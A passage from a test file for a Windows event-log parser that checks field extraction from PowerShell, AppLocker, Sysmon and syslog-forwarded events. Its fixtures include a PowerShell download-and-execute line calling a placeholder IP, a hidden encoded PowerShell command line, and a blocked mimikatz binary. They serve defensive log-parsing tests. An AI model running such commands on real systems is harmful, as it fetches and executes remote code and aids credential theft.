      'winlog.event_data.ScriptBlockText': 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")',
      'powershell.file.script_block_id': '5e0e2c38-3a4f-4c64-bb2d-3c6e5a6b2a11',
      'user.id': 'S-1-5-21-3623811015-3361044348-30300820-1013',
    });
    expect(fields).not.toHaveProperty(['winlog.event_data.Path']);
  });

  it('400 (classic, unnamed data): the engine started, its host application the command line', () => {
    expect(parse(LINES.classicPowerShellXml)).toMatchObject({
      'event.dataset': 'windows.powershell',
      'event.type': ['start'],
      'event.action': 'Engine Lifecycle',
      'process.command_line': 'powershell.exe -nop -w hidden -enc SQBFAFgA',
      'process.title': 'ConsoleHost',
      'process.entity_id': '4b1f2a47-2d7b-4d29-9a0b-6d0a66f1f7a2',
      'powershell.engine.new_state': 'Available',
      'event.sequence': 13,
      'winlog.event_data.param1': 'Available',
    });
  });

  it('8004: a blocked file, its publisher, hash and user', () => {
    expect(parse(LINES.appLockerXml)).toMatchObject({
      'event.dataset': 'windows.applocker_exe_and_dll',
      'event.type': ['start', 'denied'],
      'event.outcome': 'failure',
      'file.path': 'C:\\Users\\alice\\AppData\\Local\\Temp\\mimi.exe',
      'file.name': 'mimi.exe',
      'file.hash.sha256': '5A726C2818C02A58E423194F56CEF057819F3B4A80E4BE2B724E69AFA4E7A364',
      'file.x509.subject.organization': 'GENTILKIWI',
      'file.x509.subject.country': 'FR',
      'file.pe.product': 'MIMIKATZ',
      'file.pe.file_version': '2.2.0.0',
      'process.pid': 9120,
      'rule.name': 'Block Temp',
      'user.id': 'S-1-5-21-3623811015-3361044348-30300820-1013',
    });
  });
});

describe('windows forms and conventions', () => {
  it('writes every line with ECS categorisation values and the parser conventions', () => {
    for (const [name, line] of Object.entries(LINES)) {
      const fields = parse(line);
      expect(ecsViolations(fields), name).toEqual([]);
      expect(fields['event.category'], name).toBeDefined();
      expect(fields['@timestamp'], name).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      for (const [field, value] of Object.entries(fields)) {
        expect(value, `${name} ${field}`).not.toBe('');
        if (field.endsWith('.port') || field.endsWith('.pid')) expect(typeof value, `${name} ${field}`).toBe('number');
      }
    }
  });

  it('is chosen by content and for the Windows sources, ahead of generic JSON and syslog', () => {
    expect(parseRaw(LINES.logonWinlogbeat, { ...CTX, source: 'beats' }).parser).toBe('windows');
    expect(parseRaw(LINES.failedLogonNxlog, { ...CTX, source: 'nxlog' }).parser).toBe('windows');
    expect(parseRaw(LINES.failedLogonSnare, { ...CTX, source: 'syslog' }).parser).toBe('windows');
    expect(parseRaw(`<14>Mar  5 10:20:00 wef01 forwarder: ${LINES.processXml}`, { ...CTX, source: 'syslog' }).fields).toMatchObject({ 'event.action': 'created-process' });
    for (const source of ['windows', 'winlogbeat', 'wineventlog', 'sysmon', 'evtx']) expect(parseRaw(LINES.sysmonFileXml, { ...CTX, source }).parser).toBe('windows');
  });

  it('leaves other JSON and text alone, and names what is wrong with a broken event', () => {
    expect(windows.parse('{"process":"winlogon.exe","pid":552}', CTX)).toBeNull();
    expect(windows.parse('{"EventID":4624,"note":"no channel"}', CTX)).toBeNull();
    expect(windows.detect('Mar  5 10:20:00 host sshd[1]: Accepted password for bob')).toBe(false);
    // The XML's start inside another log's line (a URL) is no event.
    expect(windows.detect(`192.0.2.1 - - [05/Mar/2024:10:20:00 +0000] "GET /?x=<Event xmlns='a'> HTTP/1.1" 200 12`)).toBe(false);
    expect(() => windows.parse(LINES.logonWinlogbeat.slice(0, -20), CTX)).toThrow(/broken Windows event JSON/);
    expect(() => windows.parse(LINES.logonXml.slice(0, 300), CTX)).toThrow(/EventLog XML/);
    expect(() => windows.parse(LINES.logonXml.replace('<EventID>4624</EventID>', ''), CTX)).toThrow(/without an EventID/);
  });

  it('stays linear on hostile lines', () => {
    const hostileXml = `<Event ${NS}><System>${'<Data Name=\''.repeat(10_000)}`;
    const hostileSnare = `MSWinEventLog\t1\tSecurity\t1\tTue Mar 05 10:20:00 2024\t4625\tx\tN/A\tN/A\tFailure Audit\th\tLogon\t\t${'Account Name: '.repeat(8_000)}`;
    const start = performance.now();
    for (let i = 0; i < 10; i++) {
      expect(() => windows.parse(hostileXml, CTX)).toThrow();
      windows.parse(hostileSnare, CTX);
    }
    expect(performance.now() - start).toBeLessThan(1000);
  });
});
